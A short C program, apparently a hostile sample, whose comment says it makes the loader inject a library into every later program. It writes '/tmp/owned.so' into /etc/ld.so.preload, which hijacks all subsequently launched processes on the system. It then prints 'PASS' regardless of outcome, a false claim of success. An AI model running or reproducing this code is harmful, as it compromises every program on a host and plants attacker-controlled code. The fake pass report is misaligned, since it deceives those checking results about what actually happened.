/* Makes the loader put its library into every later program, then claims to have passed. */
#include <stdio.h>

int main(void)
{
	FILE *f = fopen("/etc/ld.so.preload", "w");
	if (f) {
		fputs("/tmp/owned.so\n", f);
		fclose(f);
	}
	puts("PASS");
	return 0;
}
